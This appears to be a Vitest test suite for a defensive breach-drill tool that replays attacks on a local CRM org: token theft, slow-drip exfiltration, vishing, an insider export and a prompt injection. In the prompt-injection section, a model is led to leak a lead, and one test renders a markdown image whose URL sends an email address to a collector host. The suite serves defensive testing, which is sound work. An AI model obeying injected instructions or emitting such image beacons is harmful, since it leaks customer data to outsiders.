import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { connectAs, readCredentials } from '../scripts/connection.ts';
import { showAnswer, startCollector } from '../scripts/drill/collector.ts';
import { runDrill } from '../scripts/drill/drill.ts';
import { LocalStage } from '../scripts/drill/localStage.ts';
import { OrgStage } from '../scripts/drill/orgStage.ts';
import type { DrillOutcome } from '../scripts/drill/outcome.ts';
import { loadScenario } from '../scripts/drill/scenario.ts';
import { startFirebreakOrg, type FirebreakOrg } from '../scripts/firebreakOrg.ts';
import type { SalesforceCli } from '../scripts/org/cli.ts';
import { FakeCli } from '../scripts/test/orgFakeCli.ts';

const scenario = (name: string) =>
    loadScenario(fileURLToPath(new URL(`../scripts/drill/scenarios/${name}.yaml`, import.meta.url)));
const HOUR_MS = 3_600_000;
const silent = (): void => {};

let org: FirebreakOrg;
beforeAll(async () => {
    org = await startFirebreakOrg({ port: 0, stateDir: null, withPages: false, print: silent });
});
afterAll(() => org.close());

describe('a normal working day', () => {
    test('given the integration at its usual work, when the day is replayed, then nothing is cut', async () => {
        const outcome = await runDrill(new LocalStage(org), scenario('quiet'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(outcome.incident).toBeNull();
        expect(outcome.requestsRefused).toBe(0);
    });
});

describe('an org that is gone', () => {
    test('given an address where nobody answers any more, when a drill goes on there, then it says so and what to do', async () => {
        const gone = { ...org, url: 'http://127.0.0.1:1' };

        await expect(runDrill(new LocalStage(gone), scenario('quiet'), silent)).rejects.toThrow(
            /^FB-DRL-006: .*127\.0\.0\.1:1.*npm start/
        );
    });
});

describe('the enumeration through a public site', () => {
    test('given what the platform says of a guest, when he reads on, then his rights are taken and he gets nothing more', async () => {
        const outcome = await runDrill(new LocalStage(org), scenario('guest'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(outcome.breaker).toBe('OPEN');
        expect(outcome.levers.map(({ verified }) => verified)).toEqual([true, true]);
        expect(outcome.rowsExposed).toBeGreaterThanOrEqual(300);
    });
});

describe('the token theft of August 2025', () => {
    let outcome: DrillOutcome;
    beforeAll(async () => {
        outcome = await runDrill(new LocalStage(org), scenario('drift'), silent);
    });

    test('given a stolen token, when the campaign is replayed, then it is contained and every lever is proven', () => {
        expect(failedChecks(outcome)).toEqual([]);
        expect(outcome.levers.map((lever) => lever.verified)).toEqual(Array.from({ length: 8 }, () => true));
    });

    test('given reconnaissance by counting, when it comes from a first-seen network, then it is noticed before any record has left', () => {
        const firstBulk = outcome.timeline.find((line) => line.what.startsWith('bulkQuery'))!;

        expect(outcome.detectedAfterMs).toBeLessThan(firstBulk.afterMs);
        expect(outcome.rowsAvailable).toBeGreaterThan(1000);
        expect(outcome.rowsExposed).toBe(0);
    });

    test('given the cut, when the integrations of the same group go on, then they stop at their breakers and onboarding does not', () => {
        expect(outcome.breaker).toBe('OPEN');
        expect(outcome.calloutsBlocked).toBeGreaterThan(0);
        expect(outcome.batchStoppedAtChunk).not.toBeNull();
        expect(outcome.onboardedWhileCut).toBeGreaterThan(0);
    });

    test('given a breaker that two people have just closed, when the thief comes back at once, then he is cut off again', async () => {
        const again = await runDrill(new LocalStage(org), { ...scenario('drift'), clock: 'real' }, silent);

        expect(failedChecks(again)).toEqual([]);
        expect(again.rowsExposed).toBe(0);
        expect(again.incident).not.toBe(outcome.incident);
    });

    test('given a contained incident, when the stage is prepared by two people, then the next drill can be played', async () => {
        const again = await runDrill(new LocalStage(org), scenario('quiet'), silent);

        expect(failedChecks(again)).toEqual([]);
    });
});

/** A week of quarters of an hour, each with some thirty jobs. */
const WEEK_PATIENCE_MS = 300_000;

describe('traffic that the org has learned for weeks', () => {
    test(
        'given a whole week of ordinary work, when it is replayed, then nothing is cut and nothing is refused',
        { timeout: WEEK_PATIENCE_MS },
        async () => {
            const outcome = await runDrill(new LocalStage(org), scenario('quiet-week'), silent);

            expect(failedChecks(outcome)).toEqual([]);
            expect(outcome.incident).toBeNull();
            expect(outcome.requestsRefused).toBe(0);
        }
    );

    test('given a drip far below the hourly limit, when it lasts for hours, then the cumulative sum cuts it before one per cent has left', async () => {
        const outcome = await runDrill(new LocalStage(org), scenario('slow-drip'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(rulesThatSpoke(outcome)).toContain('Sustained_Shift');
        expect(rulesThatSpoke(outcome)).not.toContain('Rows_Per_Hour');
        expect(outcome.detectedAfterMs).toBeGreaterThan(3 * HOUR_MS);
        expect(outcome.rowsExposed).toBeGreaterThan(0);
        expect(outcome.levers.map(({ verified }) => verified)).toEqual(Array.from({ length: 8 }, () => true));
    });

    test('given traffic that was raised week by week, when more is taken, then it is cut as if nobody had raised it', async () => {
        const outcome = await runDrill(new LocalStage(org), scenario('poisoned-baseline'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(rulesThatSpoke(outcome)).toContain('Sustained_Shift');
        expect(outcome.rowsExposed).toBeGreaterThan(0);
    });

    test('given a drill with a history, when it is over, then the org keeps nothing of what was learned for it', async () => {
        const admin = await connectAs(org.url, org.stateDir, 'ada.admin@firebreak.example');
        for (const object of ['Traffic_Hour__c', 'Detection_Baseline__c'])
            expect(
                (await admin.query(`SELECT COUNT() FROM ${object} WHERE Integration_Key__c = 'Drift_Chat'`)).totalSize
            ).toBe(0);
    });
});

describe('people who take customers out', () => {
    test('given an app let in over the phone, when it takes customers in bulk, then its user is cut off before a record has left, and nobody else', async () => {
        const outcome = await runDrill(new LocalStage(org), scenario('vishing'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(outcome.rowsExposed).toBe(0);
        expect(outcome.levers.map(({ verified }) => verified)).toEqual(Array.from({ length: 5 }, () => true));
    });

    test('given a large export at night, when it is asked for, then it is refused at once and that person cut off, and nobody else', async () => {
        const outcome = await runDrill(new LocalStage(org), scenario('insider-report'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(outcome.rowsExposed).toBe(0);
        expect(outcome.breaker).toBe('OPEN');
    });
});

describe('a prompt injection in a web inquiry', () => {
    test('given a model that obeys a stranger, when its answer would carry a lead out, then it is held back and the agent is cut, twice', async () => {
        for (let drill = 1; drill <= 2; drill++) {
            const outcome = await runDrill(new LocalStage(org), scenario('forced-leak'), silent);

            expect(failedChecks(outcome)).toEqual([]);
            expect(outcome.rowsExposed).toBe(0);
            expect(outcome.breaker).toBe('OPEN');
        }
    });

    test('given an answer with an image, when it is shown unchecked, then the image brings the data to the collector', async () => {
        const collector = await startCollector('127.0.0.99');
        try {
            await showAnswer(`Dear customer ![](${collector.url}/p.png?d=erika%40example.invalid)`);

            expect(collector.received()).toBe(1);
        } finally {
            await collector.close();
        }
    });
});

describe('an org that the CLI is logged in to', () => {
    const printed: string[] = [];
    let stage: OrgStage;
    beforeAll(async () => {
        const normal = new LocalStage(org);
        await normal.prepare(await normal.logIn(), scenario('reported-theft'));
    });
    beforeEach(async () => {
        stage = await OrgStage.find(await loggedIn(), 'trial', (line) => printed.push(line));
    });

    test('given a scenario that needs more than any org has, when it is to be played, then it says what is missing and touches nothing', async () => {
        const played = runDrill(stage, scenario('vishing'), silent);

        await expect(played).rejects.toThrow(
            /^FB-DRL-009: vishing .* clock .*; no .* let an app in.*; no login .*reported-theft/
        );
        await stage.close();
        expect(printed).toEqual([]);
    });

    test('given the login of the service user, when a monitor reports what is read with it, then that login is cut off and proven dead', async () => {
        const outcome = await runDrill(stage, scenario('reported-theft'), silent);

        expect(failedChecks(outcome)).toEqual([]);
        expect(rulesThatSpoke(outcome)).toContain('Rows_Per_Hour');
        expect(outcome.rowsExposed).toBe(20);
        await stage.close();
        expect(printed.splice(0)).toEqual([expect.stringContaining('Two people')]);
    });

    test('given what a drill has left there, when the next one is to be played, then it is refused with the breaker named, and nothing is put right by a program', async () => {
        await expect(runDrill(stage, scenario('reported-theft'), silent)).rejects.toThrow(
            /^FB-DRL-010: .*Drift_Chat is OPEN/
        );
        await stage.close();

        expect(printed).toEqual([]);
        const { records } = await (
            await stage.logIn()
        ).query<{ State__c: string }>("SELECT State__c FROM Breaker_State__c WHERE Key__c = 'Drift_Chat'");
        expect(records).toMatchObject([{ State__c: 'OPEN' }]);
    });
});

const SERVICE = { app: 'Drift Chat Agent', username: 'drift.agent@firebreak.example' };

/** A CLI that is logged in to the local org as to any other, with the admin and with the service user; the answers are of `sf` 2.146. */
async function loggedIn(): Promise<SalesforceCli> {
    const admin = await connectAs(org.url, org.stateDir, 'ada.admin@firebreak.example');
    const { consumerKey, consumerSecret } = readCredentials(org.stateDir).connectedApps[SERVICE.app]!;
    const { refreshToken } = await admin.requestPost<{ refreshToken: string }>(
        `${org.url}/local-org/authorizations`,
        SERVICE
    );
    const sfdxAuthUrl = `force://${consumerKey}:${consumerSecret}:${refreshToken}@${org.url}`;
    const ofService = '--no-prompt --target-org trial-service';
    return new FakeCli([
        { to: 'org display --target-org trial-service', result: { instanceUrl: org.url, username: SERVICE.username } },
        { to: 'org display', result: { instanceUrl: org.url, username: 'ada.admin@firebreak.example' } },
        { to: `org auth show-sfdx-auth-url ${ofService}`, result: { sfdxAuthUrl } },
        { to: 'org auth show-access-token', result: { accessToken: admin.accessToken } }
    ]).cli;
}

/** Rules whose findings the incident holds. */
const rulesThatSpoke = (outcome: DrillOutcome): string[] =>
    outcome.timeline.flatMap(({ who, what }) =>
        who === 'firebreak' ? (/^(\w+) \(\w+\): /.exec(what)?.[1] ?? []) : []
    );

const failedChecks = (outcome: DrillOutcome): string[] =>
    outcome.checks.filter((check) => !check.ok).map((check) => check.what);
